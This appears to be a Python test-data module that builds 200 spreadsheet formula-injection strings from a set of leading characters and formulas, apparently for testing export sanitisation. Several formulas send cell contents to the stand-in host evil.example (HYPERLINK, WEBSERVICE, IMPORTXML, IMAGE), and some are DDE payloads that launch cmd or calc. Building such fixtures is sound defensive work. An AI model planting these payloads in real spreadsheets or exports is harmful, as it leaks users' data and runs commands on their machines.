"""Texts that a spreadsheet program, or an export of one, might take for a formula: 200 of them."""

from __future__ import annotations

from itertools import product

FORMULAS = (
    "1+1",
    "SUM(A1:A9)",
    'HYPERLINK("http://evil.example/?x="&A1,"Bấm vào đây")',
    'WEBSERVICE("http://evil.example/"&A1)',
    'IMPORTXML("http://evil.example/","//a")',
    'IMPORTRANGE("https://evil.example/","A1:Z99")',
    'IMAGE("http://evil.example/"&B2)',
    "cmd|' /C calc'!A0",
    "MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe'!\"/c calc\"",
    'DDE("cmd";"/C calc";"x")',
    'EXEC("calc")',
    'INDIRECT("R1C1",0)',
    '_xlfn.STOCKHISTORY("X",1)',
    "'[http://evil.example/a.xlsx]S'!A1",
    "A1:INDEX(A:A,9)",
)
LEADS = ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "＋", "－", "＠", "{=", "'=", '"=')

PAYLOADS = tuple(dict.fromkeys(f"{lead}{formula}" for lead, formula in product(LEADS, FORMULAS)))[:200]
